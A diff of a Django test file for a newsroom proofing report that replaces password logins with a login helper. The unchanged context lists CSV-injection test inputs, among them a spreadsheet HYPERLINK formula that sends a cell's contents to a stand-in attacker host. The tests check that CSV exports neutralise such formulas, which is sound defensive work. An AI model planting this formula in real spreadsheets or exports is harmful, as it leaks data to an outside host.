@@ -12,7 +12,7 @@ from openpyxl import load_workbook
 from rongmei.proofing import services
 from rongmei.proofing.engine import findings as f
 from rongmei.proofing.models import Term, WordList
-from rongmei.testing import TEST_PASSWORD
+from rongmei.testing import login
 from rongmei.website.tests.hostile import HOSTILE_VALUES
 
 pytestmark = pytest.mark.django_db
@@ -21,7 +21,7 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+1", "-2+3", "
 
 
 def test_report_month_with_hostile_values_never_gives_a_server_error(client, newsroom):
-    assert client.login(username="chief", password=TEST_PASSWORD)
+    login(client, newsroom.chief)
     client.raise_request_exception = False
     failures = []
     for value in HOSTILE_VALUES:
@@ -34,7 +34,7 @@ def test_report_month_with_hostile_values_never_gives_a_server_error(client, new
 
 @pytest.mark.parametrize("month", ["9999-12", "0001-01", "1-1"])
 def test_report_month_at_the_ends_of_the_calendar_is_refused_with_a_message(client, newsroom, month):
-    assert client.login(username="chief", password=TEST_PASSWORD)
+    login(client, newsroom.chief)
     with translation.override("en"):
         response = client.get(reverse("proofing_report"), {"month": month}, HTTP_ACCEPT_LANGUAGE="en")
     assert response.status_code == 200
@@ -75,7 +75,7 @@ def test_report_csv_guards_a_formula_in_a_staff_name(client, review):
     story = review.add_story(title="测试", body="<p>内部绝密外泄。</p>")
     review_services.submit_for_review(story, acting_user=reporter)
     assert ProofCheck.objects.filter(story=StoryPage.objects.get(pk=story.pk)).exists()
-    assert client.login(username="chief", password=TEST_PASSWORD)
+    login(client, review.chief)
     text = client.get(reverse("proofing_report"), {"format": "csv"}).content.decode("utf-8-sig")
     names = [row[0] for row in csv.reader(io.StringIO(text)) if row and "HYPERLINK" in row[0]]
     assert names and all(name.startswith("'=") for name in names), text
